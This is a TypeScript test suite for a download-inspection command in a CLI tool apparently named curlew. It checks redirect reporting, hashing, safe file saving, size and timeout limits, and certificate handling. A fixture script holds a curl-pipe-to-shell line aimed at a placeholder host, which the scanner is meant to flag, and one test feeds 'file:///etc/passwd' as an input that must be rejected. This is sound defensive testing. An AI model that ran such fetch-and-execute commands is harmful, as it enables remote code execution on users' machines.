import { execFileSync } from "node:child_process";
import { createHash } from "node:crypto";
import { mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from "node:fs";
import { createServer, type RequestListener, type Server } from "node:http";
import { createServer as createSecureServer } from "node:https";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { curlew } from "../curlew-process.js";
import { runHere } from "../fake-detector.js";

const SCRIPT = "#!/bin/sh\ncurl -fsSL https://x.example/i.sh | sh\n";

const asked: (string | undefined)[] = [];
const answer: RequestListener = ({ url, headers }, response) => {
  asked.push(headers["user-agent"]);
  if (url === "/go") response.writeHead(302, { location: "/install.sh" }).end();
  else if (url === "/round") response.writeHead(302, { location: "/round" }).end();
  else if (url === "/install.sh") response.setHeader("content-type", "text/x-sh").end(SCRIPT);
  else if (url === "/clean.md") response.end("Run `ls`.");
  else if (url === "/binary") response.end(Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0, 0, 0, 0]));
  else if (url === "/long") response.end("a".repeat(5000));
  else if (url === "/silent") return;
  else response.writeHead(404).end();
};

let folder: string;
let plain: Server;
let at: string;

function listen(server: Server): Promise<number> {
  return new Promise((resolve) =>
    server.listen(0, "127.0.0.1", () => resolve((server.address() as AddressInfo).port)),
  );
}

beforeAll(async () => {
  folder = mkdtempSync(join(tmpdir(), "curlew-inspect-"));
  plain = createServer(answer);
  at = `http://127.0.0.1:${await listen(plain)}`;
});
afterAll(() => {
  plain.closeAllConnections();
  plain.close();
  rmSync(folder, { recursive: true });
});

describe("curlew inspect", () => {
  it("reports the URL, the type and the findings of a download", async () => {
    const { status, stdout } = await runHere(["inspect", `${at}/go`, "--quiet"], { cwd: folder });
    expect(status).toBe(1);
    expect(stdout).toContain(
      `address        ${at}/go\nredirected to  ${at}/install.sh\ntype           text/x-sh\nsize           ${SCRIPT.length} bytes\nsha256         ${createHash("sha256").update(SCRIPT).digest("hex")}\n`,
    );
    expect(stdout).toContain("not encrypted ");
    expect(stdout).toContain("install.sh:2:1: bash/fetch-pipe");
    expect(asked.at(-1)).toBe("curlew/0.0.0");
  });

  it("saves the download in a new file without permission to execute", async () => {
    const { stdout } = await runHere(["inspect", `${at}/go`], { cwd: folder });
    const [, kept = ""] = /^file +(.+\/install\.sh)$/m.exec(stdout) ?? [];
    expect([readFileSync(kept, "utf8"), statSync(kept).mode & 0o777]).toEqual([SCRIPT, 0o600]);
    rmSync(dirname(kept), { recursive: true });
  });

  it("saves the download in a file that --output names, which must not exist", async () => {
    const path = join(folder, "install.sh");
    expect(
      (await runHere(["inspect", `${at}/install.sh`, "-o", "install.sh"], { cwd: folder })).status,
    ).toBe(1);
    expect(readFileSync(path, "utf8")).toBe(SCRIPT);
    expect(statSync(path).mode & 0o777).toBe(0o600);
    writeFileSync(path, "mine");
    expect(
      await runHere(["inspect", `${at}/install.sh`, "-o", "install.sh"], { cwd: folder }),
    ).toMatchObject({
      status: 2,
      stderr: "curlew: install.sh: already exists; name a new file\n",
    });
    expect(readFileSync(path, "utf8")).toBe("mine");
  });

  it("finds nothing in a clean text, and does not scan binary content", async () => {
    expect(await runHere(["inspect", `${at}/clean.md`])).toMatchObject({
      status: 0,
      stdout: expect.stringContaining("no findings in 1 text"),
    });
    expect(await runHere(["inspect", `${at}/binary`])).toMatchObject({
      status: 0,
      stdout: expect.stringContaining("It is binary, and was not scanned."),
    });
  });

  it("sends the configured user agent", async () => {
    await runHere(["inspect", `${at}/clean.md`, "--user-agent", "curl/8.5.0"]);
    expect(asked.at(-1)).toBe("curl/8.5.0");
  });

  it.each([
    ["a missing page", "/none", [], "answers with status 404"],
    ["redirects without end", "/round", [], "more than 10 redirects"],
    [
      "a download that is too long",
      "/long",
      ["--max-size", "4K"],
      "is longer than 4 KiB; raise --max-size to download more",
    ],
    ["a server that does not answer", "/silent", ["--timeout", "1"], "no answer within 1 s"],
  ])("reports %s", async (_title, path, options, problem) => {
    expect(await runHere(["inspect", `${at}${path}`, ...options])).toEqual({
      status: 2,
      stdout: "",
      stderr: `curlew: ${at}${path}: ${problem}\n`,
    });
  });

  it.each(["ftp://x.example/", "file:///etc/passwd", "install.sh"])(
    "rejects %s",
    async (address) => {
      expect(await runHere(["inspect", address])).toMatchObject({
        status: 2,
        stderr: `curlew: ${address}: is not an address that begins with https:// or http://\n`,
      });
    },
  );

  it("shows the certificate, and rejects an untrusted one", async () => {
    const [key, cert] = [join(folder, "key.pem"), join(folder, "cert.pem")];
    const made = [
      "req",
      "-x509",
      "-newkey",
      "rsa:2048",
      "-nodes",
      "-keyout",
      key,
      "-out",
      cert,
      "-days",
      "2",
      "-subj",
      "/CN=127.0.0.1/O=Example",
      "-addext",
      "subjectAltName=IP:127.0.0.1",
    ];
    execFileSync("openssl", made, { stdio: "ignore" });
    const secure = createSecureServer({ key: readFileSync(key), cert: readFileSync(cert) }, answer);
    const address = `https://127.0.0.1:${await listen(secure)}/install.sh`;
    expect(await curlew(["inspect", address])).toMatchObject({
      status: 2,
      stdout: "",
      stderr: `curlew: ${address}: self-signed certificate\n`,
    });
    const { status, stdout } = await curlew(["inspect", address], {
      env: { NODE_EXTRA_CA_CERTS: cert },
    });
    secure.close();
    expect(status).toBe(1);
    expect(stdout).toMatch(
      /^certificate {4}127\.0\.0\.1, Example, by 127\.0\.0\.1, Example, until .* GMT\nfingerprint {4}(?:[0-9A-F]{2}:){31}[0-9A-F]{2}$/m,
    );
    expect(stdout).not.toContain("not encrypted");
  });
});
